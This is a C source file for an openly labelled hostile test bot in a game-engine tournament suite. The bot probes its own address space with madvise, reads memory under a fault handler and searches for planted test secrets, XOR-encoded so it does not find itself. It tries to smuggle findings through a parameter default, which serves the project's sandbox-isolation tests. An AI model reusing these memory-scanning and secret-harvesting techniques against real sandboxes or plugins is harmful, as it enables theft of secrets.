/*
 * bot_snoop.c - DELIBERATELY HOSTILE test bot (family mines): it searches
 * its whole address space for the organiser's secrets, as a bot built
 * from the public headers can. Its needles are a master seed (decimal
 * text, and the same number as 8 little-endian bytes), the marker of a
 * layout file's name and the marker of another entrant's configuration
 * line (tests/e2e/secrets_test.sh puts all of them in its configuration).
 * They are compiled in XOR-ed, and decoded into `vault` only, which the
 * search leaves out, so this file's own image never holds them in the
 * clear.
 *
 * It searches when it is loaded, in its entry function, and writes what
 * it finds into the default of its string parameter `loot` (the attack
 * of issue 27: the engine hands parameter defaults to bot_new), and in
 * every call (bot_new, step, inform, bot_free), reporting on its host
 * table's log: "snoop: loot=VALUE" at bot_new, "snoop: call NAME: clean,
 * scanned N bytes" or "snoop: call NAME: found NEEDLE...", for bot_new,
 * the first step, the first inform and every call that finds something
 * (at most 8 of those), and at bot_free how many calls there were and
 * whether all were clean, so a result's first log lines cover the game.
 *
 * Sandboxed it may only use memory calls, clocks and signals at itself
 * (core/helper/lockdown.c), and Landlock hides /proc: it finds mappings
 * by probing with madvise(MADV_NORMAL), which fails with ENOMEM on an
 * unmapped page, outward from anchors (its stack, environ, the brk heap,
 * a malloc'd block, a fresh mmap, a static of its own), over gaps of at
 * most 16 MiB, and reads them under a SIGSEGV/SIGBUS handler that
 * siglongjmps past the page (PROT_NONE, or past a file's end). It skips
 * runs above 1 GiB (AddressSanitizer's shadow and allocator reservations)
 * and reads at most 256 MiB a search. The handler runs on the ordinary
 * stack: AddressSanitizer's siglongjmp, leaving an alternate stack, asks
 * /proc for the thread's stack, which the sandbox hides. What a signal
 * saves there is registers, and no register ever holds more than one byte
 * of a needle (decode, matches).
 */
#define _GNU_SOURCE
#include "sapper/mines.h"

#include <setjmp.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#if defined(__SANITIZE_ADDRESS__)
#define NO_ASAN __attribute__((no_sanitize_address))   /* it reads everything */
#else
#define NO_ASAN
#endif

#define GAP_MAX (16u << 20)                /* the widest gap walked */
#define RUN_MAX ((uintptr_t)1 << 30)       /* runs above this are not read */
#define BUDGET ((uint64_t)256 << 20)       /* bytes read per search */
#define MAX_RUNS 2048
#define TOP ((uintptr_t)1 << 47)           /* the end of user space */
#define NNEEDLES 4
#define FOUND_LINES 8                      /* "found" lines an instance logs */

/* ---- the needles ---------------------------------------------------------- */

enum { SEED_TEXT, SEED_BYTES, LAYOUT, CONFIG_LINE };
static const char *const needle_names[NNEEDLES] = {
    "master-seed", "master-seed-bytes", "layout", "config-line",
};
/* "16964423776565053155", "snoop-secret-layout", "snoop-secret-config-line",
   each byte XOR 0x5a */
static const unsigned char seed_xor[] = {
    0x6b, 0x6c, 0x63, 0x6c, 0x6e, 0x6e, 0x68, 0x69, 0x6d, 0x6d,
    0x6c, 0x6f, 0x6c, 0x6f, 0x6a, 0x6f, 0x69, 0x6b, 0x6f, 0x6f};
static const unsigned char layout_xor[] = {
    0x29, 0x34, 0x35, 0x35, 0x2a, 0x77, 0x29, 0x3f, 0x39, 0x28,
    0x3f, 0x2e, 0x77, 0x36, 0x3b, 0x23, 0x35, 0x2f, 0x2e};
static const unsigned char config_xor[] = {
    0x29, 0x34, 0x35, 0x35, 0x2a, 0x77, 0x29, 0x3f, 0x39, 0x28, 0x3f, 0x2e,
    0x77, 0x39, 0x35, 0x34, 0x3c, 0x33, 0x3d, 0x77, 0x36, 0x33, 0x34, 0x3f};
/* read at run time, so the compiler cannot decode at build time */
static volatile unsigned char xor_key = 0x5a;

/* What the search must not find itself in: the decoded needles. A
   hostile bot's globals: a signal handler has no other way to reach its
   state. */
static struct {
    unsigned char needle[NNEEDLES][32];
    size_t len[NNEEDLES];
} vault;

static sigjmp_buf fault_jump;
static volatile uintptr_t fault_addr;

/* Byte by byte through volatile pointers: no register ever holds more
   than one byte of a needle (registers get saved to the stack). */
static void decode(int i, const unsigned char *xored, size_t n)
{
    volatile unsigned char *out = vault.needle[i];
    for (size_t k = 0; k < n; k++)
        out[k] = (unsigned char)(xored[k] ^ xor_key);
    vault.len[i] = n;
}

/* The decimal seed as 8 little-endian bytes, multiplied up in place. */
static void seed_bytes(void)
{
    volatile unsigned char *b = vault.needle[SEED_BYTES];
    for (int k = 0; k < 8; k++)
        b[k] = 0;
    for (size_t d = 0; d < vault.len[SEED_TEXT]; d++) {
        unsigned carry = (unsigned)(vault.needle[SEED_TEXT][d] - '0');
        for (int k = 0; k < 8; k++) {
            unsigned v = b[k] * 10u + carry;
            b[k] = (unsigned char)v;
            carry = v >> 8;
        }
    }
    vault.len[SEED_BYTES] = 8;
}

static void decode_needles(void)
{
    decode(SEED_TEXT, seed_xor, sizeof seed_xor);
    decode(LAYOUT, layout_xor, sizeof layout_xor);
    decode(CONFIG_LINE, config_xor, sizeof config_xor);
    seed_bytes();
}

/* ---- one search ----------------------------------------------------------- */

typedef struct run {
    uintptr_t lo, hi;
} run;

typedef struct search {
    run runs[MAX_RUNS];
    size_t nruns;
    uintptr_t page;
    volatile uint64_t scanned;   /* bytes read */
    volatile unsigned found;     /* bit i: needle i */
} search;

static int mapped(uintptr_t lo, uintptr_t hi)
{
    return lo < hi && hi <= TOP && madvise((void *)lo, hi - lo, MADV_NORMAL) == 0;
}

/* Whether the len bytes from page p up (dir 1), or down to p's end (-1),
   are all mapped. */
static int covered(const search *s, uintptr_t p, int dir, uintptr_t len)
{
    return dir > 0 ? mapped(p, p + len) : mapped(p + s->page - len, p + s->page);
}

/* The far edge of the mapped run holding page p, going up (dir 1: its
   end) or down (-1: its start): doubling, then halving. */
static uintptr_t edge(const search *s, uintptr_t p, int dir)
{
    uintptr_t pg = s->page, room = dir > 0 ? TOP - p : p + pg;   /* the most len can be */
    uintptr_t good = pg, bad = 0;   /* covered(good); bad: not, or past room */
    while (!bad) {
        if (good > room / 2)
            bad = room + pg;
        else if (!covered(s, p, dir, 2 * good))
            bad = 2 * good;
        else
            good *= 2;
    }
    while (bad - good > pg) {
        uintptr_t mid = good + (bad - good) / 2 / pg * pg;
        if (mid <= room && covered(s, p, dir, mid))
            good = mid;
        else
            bad = mid;
    }
    return dir > 0 ? p + good : p + pg - good;
}

static int known(const search *s, uintptr_t p)
{
    for (size_t i = 0; i < s->nruns; i++)
        if (p >= s->runs[i].lo && p < s->runs[i].hi)
            return 1;
    return 0;
}

/* The first mapped page past the edge e (going dir) within GAP_MAX, or 0. */
static uintptr_t across_gap(const search *s, uintptr_t e, int dir)
{
    for (uintptr_t k = 0; k < GAP_MAX; k += s->page) {
        uintptr_t p = dir > 0 ? e + k : e - s->page - k;
        if (dir < 0 && e < s->page + k)
            return 0;
        if (mapped(p, p + s->page))
            return p;
    }
    return 0;
}

static void add_run(search *s, uintptr_t lo, uintptr_t hi)
{
    if (s->nruns < MAX_RUNS)
        s->runs[s->nruns++] = (run){lo, hi};
}

/* Adds the run holding the anchor and, gap by gap, the runs beyond it up
   and down. A run already known ends a walk: gaps are walked alike from
   either side, so what lies beyond it is known too. */
static void explore(search *s, uintptr_t anchor)
{
    uintptr_t pg = s->page, p = anchor / pg * pg;
    if (known(s, p) || !mapped(p, p + pg))
        return;
    run r = {edge(s, p, -1), edge(s, p, 1)};
    add_run(s, r.lo, r.hi);
    for (uintptr_t q = across_gap(s, r.hi, 1); q && !known(s, q) && s->nruns < MAX_RUNS;) {
        uintptr_t hi = edge(s, q, 1);   /* q starts its run: below it is the gap */
        add_run(s, q, hi);
        q = across_gap(s, hi, 1);
    }
    for (uintptr_t q = across_gap(s, r.lo, -1); q && !known(s, q) && s->nruns < MAX_RUNS;) {
        uintptr_t lo = edge(s, q, -1);   /* q ends its run */
        add_run(s, lo, q + pg);
        q = across_gap(s, lo, -1);
    }
}

/* ---- reading, under the fault handler -------------------------------------- */

NO_ASAN static void on_fault(int sig, siginfo_t *si, void *uc)
{
    (void)sig;
    (void)uc;
    fault_addr = (uintptr_t)si->si_addr;
    siglongjmp(fault_jump, 1);
}

NO_ASAN static int matches(const unsigned char *p, const unsigned char *end, int i)
{
    const volatile unsigned char *n = vault.needle[i];
    size_t len = vault.len[i];
    if ((size_t)(end - p) < len)
        return 0;
    for (size_t k = 0; k < len; k++)
        if (p[k] != n[k])
            return 0;
    return 1;
}

/* Whether the word w holds the byte c (the classic has-zero test). */
static int has_byte(uint64_t w, unsigned char c)
{
    uint64_t x = w ^ (UINT64_C(0x0101010101010101) * c);
    return ((x - UINT64_C(0x0101010101010101)) & ~x & UINT64_C(0x8080808080808080)) != 0;
}

/* A word read from any address: a plain load, no library call (the
   sanitizers' memcpy would check what it reads). */
typedef uint64_t __attribute__((may_alias, aligned(1))) any_word;

/* Tries every needle at each of the n bytes at p. */
NO_ASAN static void try_at(search *s, const unsigned char *p, size_t n,
                           const unsigned char *end)
{
    for (size_t k = 0; k < n; k++)
        for (int i = 0; i < NNEEDLES; i++)
            if (p[k] == vault.needle[i][0] && matches(p + k, end, i))
                s->found |= 1u << i;
}

/* Searches [p, end) for every needle, a word at a time until a word holds
   a needle's first byte; may fault (the caller resumes). */
NO_ASAN static void find_in(search *s, const unsigned char *p, const unsigned char *end)
{
    unsigned char first[NNEEDLES];
    for (int i = 0; i < NNEEDLES; i++)
        first[i] = vault.needle[i][0];
    for (; end - p >= 8; p += 8) {
        uint64_t w = *(const any_word *)p;
        int any = 0;
        for (int i = 0; i < NNEEDLES; i++)
            any |= has_byte(w, first[i]);
        if (any)
            try_at(s, p, 8, end);
    }
    try_at(s, p, (size_t)(end - p), end);
}

/* Whether the byte at a can be read. */
NO_ASAN static int readable(uintptr_t a)
{
    if (sigsetjmp(fault_jump, 1))
        return 0;
    (void)*(volatile const unsigned char *)a;
    return 1;
}

/* The first readable page after the faulting page f, before hi (or hi):
   an unreadable stretch (PROT_NONE, past a file's end) is galloped over,
   not read page by page. */
static uintptr_t past_fault(const search *s, uintptr_t f, uintptr_t hi)
{
    uintptr_t bad = f, step = s->page;
    while (bad + step < hi && !readable(bad + step))
        bad += step, step *= 2;
    uintptr_t good = bad + step < hi ? bad + step : hi;
    while (good - bad > s->page) {
        uintptr_t mid = bad + (good - bad) / 2 / s->page * s->page;
        if (readable(mid))
            good = mid;
        else
            bad = mid;
    }
    return good;
}

/* Reads [lo, hi) within the budget, resuming past each fault. */
static void read_range(search *s, uintptr_t lo, uintptr_t hi)
{
    volatile uintptr_t at = lo;
    while (at < hi && s->scanned < BUDGET) {
        uintptr_t end = hi - at > BUDGET - s->scanned ? at + (BUDGET - s->scanned) : hi;
        if (sigsetjmp(fault_jump, 1)) {
            if (fault_addr < at || fault_addr >= end)
                return;   /* not a fault of this read: give up the run */
            uintptr_t f = fault_addr / s->page * s->page;
            f = f < at ? at : f;
            s->scanned += f - at;
            at = past_fault(s, f, hi);
            continue;
        }
        find_in(s, (const unsigned char *)at, (const unsigned char *)end);
        s->scanned += end - at;
        at = end;
    }
}

/* Reads a run, around the vault. */
static void read_run(search *s, run r)
{
    uintptr_t vlo = (uintptr_t)&vault, vhi = vlo + sizeof vault;
    if (r.hi - r.lo > RUN_MAX)
        return;
    if (vhi <= r.lo || vlo >= r.hi) {
        read_range(s, r.lo, r.hi);
        return;
    }
    if (vlo > r.lo)
        read_range(s, r.lo, vlo);
    if (vhi < r.hi)
        read_range(s, vhi, r.hi);
}

/* The process's own handlers, put back after a search. */
typedef struct saved {
    struct sigaction segv, bus;
} saved;

static void catch_faults(saved *old)
{
    struct sigaction sa = {.sa_sigaction = on_fault, .sa_flags = SA_SIGINFO};
    sigemptyset(&sa.sa_mask);
    sigaction(SIGSEGV, &sa, &old->segv);
    sigaction(SIGBUS, &sa, &old->bus);
}

static void release_faults(const saved *old)
{
    sigaction(SIGSEGV, &old->segv, NULL);
    sigaction(SIGBUS, &old->bus, NULL);
}

/* Finds the runs from every anchor, reads them; s says what it found. */
static void search_all(search *s)
{
    if (!vault.len[SEED_TEXT])
        decode_needles();
    int on_stack = 0;
    s->nruns = 0;
    s->scanned = 0;
    s->found = 0;
    s->page = (uintptr_t)getpagesize();
    void *block = malloc(64), *fresh = mmap(NULL, s->page, PROT_READ | PROT_WRITE,
                                            MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    uintptr_t anchors[] = {(uintptr_t)&on_stack, (uintptr_t)environ,
                           (uintptr_t)&environ, (uintptr_t)sbrk(0) - 1, (uintptr_t)block,
                           fresh == MAP_FAILED ? 0 : (uintptr_t)fresh, (uintptr_t)&vault};
    for (size_t i = 0; i < sizeof anchors / sizeof *anchors; i++)
        if (anchors[i])
            explore(s, anchors[i]);
    saved old;
    catch_faults(&old);
    for (size_t i = 0; i < s->nruns; i++)
        read_run(s, s->runs[i]);
    release_faults(&old);
    if (fresh != MAP_FAILED)
        munmap(fresh, s->page);
    free(block);
}

/* The names of the needles found, "master-seed,layout", into out. */
static void found_names(const search *s, char *out, size_t cap)
{
    size_t n = 0;
    out[0] = 0;
    for (int i = 0; i < NNEEDLES && n < cap; i++)
        if (s->found >> i & 1)
            n += (size_t)snprintf(out + n, cap - n, "%s%s", n ? "," : "", needle_names[i]);
}

/* "found master-seed,layout" or "clean, scanned N bytes" into out. */
static void describe_search(const search *s, char *out, size_t cap)
{
    char names[100];
    found_names(s, names, sizeof names);
    if (s->found)
        snprintf(out, cap, "found %s", names);
    else
        snprintf(out, cap, "clean, scanned %llu bytes", (unsigned long long)s->scanned);
}

/* The run list (32 KiB) of every search: not on a bot's stack. */
static search the_search;

/* ---- the bot ---------------------------------------------------------------- */

static char loot_default[128] = "none";

static sapper_param_spec snoop_params[] = {
    {.key = "loot", .type = SAPPER_PARAM_STRING, .def = loot_default,
     .help = "what the entry function found (the attack: \"none\" when it found nothing)"},
};

typedef struct snoop {
    const sapper_host *host;   /* NULL from an engine before ABI 1.2 */
    int32_t calls, dirty, found_lines;
    uint64_t least;            /* the smallest search of its calls */
    int said_step, said_inform;
} snoop;

/* One call's search, logged when said is 0 (then set) or it found
   something. */
static void search_call(snoop *b, const char *call, int *said)
{
    search *s = &the_search;
    char what[160], line[200];
    search_all(s);
    b->calls++;
    b->dirty += s->found != 0;
    b->least = b->calls == 1 || s->scanned < b->least ? s->scanned : b->least;
    int log = !*said || (s->found && b->found_lines < FOUND_LINES);
    b->found_lines += log && s->found;
    *said = 1;
    if (!log)
        return;
    describe_search(s, what, sizeof what);
    snprintf(line, sizeof line, "snoop: call %s: %s", call, what);
    sapper_host_log(b->host, SAPPER_LOG_INFO, line);
}

static sapper_status snoop_new(const sapper_params *params, const sapper_bot_setup *setup,
                               void **bot, char *err, size_t errcap)
{
    (void)err;
    (void)errcap;
    snoop *b = calloc(1, sizeof *b);
    if (!b)
        return SAPPER_ERR_NOMEM;
    b->host = setup->struct_size >= offsetof(sapper_bot_setup, host) + sizeof setup->host
        ? setup->host : NULL;
    const char *loot = sapper_param(params, "loot");
    char line[200];
    snprintf(line, sizeof line, "snoop: loot=%s", loot ? loot : "(none given)");
    sapper_host_log(b->host, SAPPER_LOG_INFO, line);
    int said = 0;
    search_call(b, "bot_new", &said);
    *bot = b;
    return SAPPER_OK;
}

static sapper_status snoop_step(void *bot, const void *view, size_t view_size,
                                const int64_t *legal, size_t nlegal, int64_t *action)
{
    snoop *b = bot;
    (void)view;
    (void)view_size;
    search_call(b, "step", &b->said_step);
    if (!legal || nlegal == 0)
        return SAPPER_ERR_STATE;
    *action = legal[0];
    return SAPPER_OK;
}

static void snoop_inform(void *bot, int32_t seat, int64_t action)
{
    (void)seat;
    (void)action;
    snoop *b = bot;
    search_call(b, "inform", &b->said_inform);
}

static void snoop_free(void *bot)
{
    snoop *b = bot;
    int said = 0;
    search_call(b, "bot_free", &said);
    char line[200];
    snprintf(line, sizeof line, "snoop: %d calls, %s, the smallest search %llu bytes",
             (int)b->calls, b->dirty ? "some found secrets" : "all clean",
             (unsigned long long)b->least);
    sapper_host_log(b->host, SAPPER_LOG_INFO, line);
    free(b);
}

static const sapper_bot_api snoop_api = {
    .struct_size = sizeof(sapper_bot_api),
    .bot_new = snoop_new,
    .bot_free = snoop_free,
    .step = snoop_step,
    .inform = snoop_inform,
};

static const sapper_descriptor snoop_descriptor = {
    .struct_size = sizeof(sapper_descriptor),
    .abi_major = SAPPER_ABI_MAJOR,
    .abi_minor = SAPPER_ABI_MINOR,
    .kind = SAPPER_KIND_BOT,
    .id = "bot_snoop",
    .name = "Snoop",
    .version = "1.0.0",
    .summary = "Searches its address space for the organiser's secrets (a hostile test bot)",
    .family = SAPPER_MINES_FAMILY,
    .params = snoop_params,
    .param_count = sizeof snoop_params / sizeof snoop_params[0],
    .bot = &snoop_api,
};

static const sapper_descriptor *const snoop_descriptors[] = {&snoop_descriptor};

static const sapper_manifest snoop_manifest = {
    .struct_size = sizeof(sapper_manifest),
    .abi_major = SAPPER_ABI_MAJOR,
    .abi_minor = SAPPER_ABI_MINOR,
    .count = 1,
    .descriptors = snoop_descriptors,
};

/* The attack: whatever the search finds at load time becomes the default
   of `loot`, which the engine would hand to bot_new in every game. */
SAPPER_PLUGIN_ENTRY(bot_snoop)
{
    (void)host_minor;
    search_all(&the_search);
    if (the_search.found) {
        char names[100];
        found_names(&the_search, names, sizeof names);
        snprintf(loot_default, sizeof loot_default, "found:%s", names);
    }
    return host_major == SAPPER_ABI_MAJOR ? &snoop_manifest : NULL;
}
